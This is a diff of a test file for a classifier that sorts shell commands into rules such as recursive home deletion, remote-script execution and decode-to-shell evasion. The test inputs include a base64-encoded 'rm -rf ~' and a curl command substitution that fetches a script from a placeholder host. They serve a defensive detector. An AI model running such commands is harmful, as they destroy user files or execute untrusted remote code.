@@ -38,7 +38,10 @@ describe('shell-syntax evasion', () => {
   });
 
   it('a command word produced by a decoder or a download runs as a command', () => {
-    expect(rule('$(echo cm0gLXJmIH4K | base64 -d)')).toBe('exec.decode-to-shell');
+    // decoded text is judged as the text it decodes to (round 8a); unmodelled decoders stay unreadable
+    expect(rule('$(echo cm0gLXJmIH4K | base64 -d)')).toBe('fs.rm-recursive-home');
+    expect(rule('$(echo Z2l0IHN0YXR1cw== | base64 -d)')).toBe('allow');
+    expect(rule('$(base64 -d payload.b64)')).toBe('exec.decode-to-shell');
     expect(rule('$(curl -s https://x.example/c)')).toBe('exec.remote-script');
     expect(rule('$(command -v node) app.js')).toBe('allow');
   });
